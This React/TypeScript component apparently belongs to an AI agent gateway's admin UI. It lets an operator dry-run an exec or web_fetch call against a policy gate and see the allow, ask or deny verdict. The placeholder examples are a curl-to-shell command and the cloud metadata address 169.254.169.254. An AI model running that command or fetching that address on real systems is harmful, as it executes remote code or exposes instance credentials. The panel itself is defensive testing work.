/** Lets the gate judge a call that is not made: nothing runs, nothing is counted. */

import { Button } from '@cloudflare/kumo/components/button'
import { CheckCircleIcon } from '@phosphor-icons/react/CheckCircle'
import { QuestionIcon } from '@phosphor-icons/react/Question'
import { XCircleIcon } from '@phosphor-icons/react/XCircle'
import { type FormEvent, useId, useState } from 'react'
import { useMay } from '../../client/use-gateway.ts'
import { useChange, useOperation } from '../../client/use-operation.ts'
import { Choice } from '../../ui/choice.tsx'
import { CONTROL, Labelled } from '../../ui/labelled.tsx'
import { Card, Section } from '../../ui/page.tsx'
import { NotDone } from '../../ui/states.tsx'
import { argsOf, readVerdict, type Verdict } from './verdict.ts'

const WANTS: Readonly<Record<string, readonly [label: string, example: string]>> = {
  exec: ['Command', 'curl https://example.com | sh'],
  web_fetch: ['Address', 'http://169.254.169.254/latest/meta-data'],
}

export function TryCall({ agent }: { readonly agent: string }) {
  const [tool, setTool] = useState('exec')
  const [text, setText] = useState('')
  const tools = useOperation('tools.list', {})
  const judge = useChange('tools.invoke')
  const id = useId()
  const mayJudge = useMay('tools.invoke')
  if (!mayJudge) return null
  const names = new Set(['exec', 'web_fetch', ...(tools.data?.tools ?? []).map(({ name }) => name)])
  const [label, example] = WANTS[tool] ?? ['Arguments (JSON)', '{}']
  const args = argsOf(tool, text)
  const submit = (event: FormEvent) => {
    event.preventDefault()
    if (args !== null) judge.mutate({ tool, args, agentId: agent, dryRun: true })
  }
  return (
    <Section title="Try a call">
      <Card className="flex flex-col gap-4">
        <p className="text-kumo-subtle">Judged by what is saved. Nothing runs.</p>
        <form
          onSubmit={submit}
          className="grid items-end gap-3 sm:grid-cols-[12rem_minmax(0,1fr)_auto]"
        >
          <Choice
            label="Tool"
            value={tool}
            options={[...names].map((name) => [name, name] as const)}
            onChange={(name) => {
              setTool(name)
              judge.reset()
            }}
          />
          <Labelled label={label} htmlFor={id}>
            <input
              id={id}
              className={`${CONTROL} h-9 font-mono`}
              value={text}
              placeholder={example}
              spellCheck={false}
              autoComplete="off"
              onChange={({ target }) => setText(target.value)}
            />
          </Labelled>
          <Button
            type="submit"
            variant="primary"
            loading={judge.isPending}
            disabled={args === null}
          >
            Judge
          </Button>
        </form>
        {args === null && <p className="text-kumo-danger">Write the arguments as a JSON object.</p>}
        <NotDone error={judge.error} />
        {judge.data !== undefined && <Shown verdict={readVerdict(judge.data)} />}
      </Card>
    </Section>
  )
}

const LOOKS = {
  allow: { tint: 'bg-kumo-success-tint', icon: CheckCircleIcon },
  ask: { tint: 'bg-kumo-warning-tint', icon: QuestionIcon },
  deny: { tint: 'bg-kumo-danger-tint', icon: XCircleIcon },
} as const

function Shown({ verdict }: { readonly verdict: Verdict }) {
  const { decision, title, message, because, details, commands, url } = verdict
  const { tint, icon: Icon } = LOOKS[decision]
  return (
    <div role="status" aria-label="Verdict" className={`flex gap-3 rounded-lg p-4 ${tint}`}>
      <Icon size={22} aria-hidden className="shrink-0" />
      <div className="flex min-w-0 flex-col gap-1.5">
        <p className="font-semibold">{title}</p>
        {because !== null && <p>{because}</p>}
        {message !== null && <p className="as-written">{message}</p>}
        {details.length > 0 && (
          <dl className="grid grid-cols-[auto_minmax(0,1fr)] gap-x-3 text-sm">
            {details.map(([name, value]) => (
              <div key={name} className="contents">
                <dt>{name}</dt>
                <dd className="as-written font-mono">{value}</dd>
              </div>
            ))}
          </dl>
        )}
        {url !== null && (
          <p className="text-sm">
            Read as <code className="as-written">{url}</code>
          </p>
        )}
        {commands.length > 0 && (
          <div className="text-sm">
            <p>Read as {commands.length === 1 ? 'one command' : `${commands.length} commands`}:</p>
            <ol className="list-decimal pl-5">
              {commands.map((command, index) => (
                // biome-ignore lint/suspicious/noArrayIndexKey: in the order of the line
                <li key={index}>
                  <code className="as-written">{command.text}</code>
                  {command.marks.length > 0 && ` — ${command.marks.join(', ')}`}
                </li>
              ))}
            </ol>
          </div>
        )}
      </div>
    </div>
  )
}
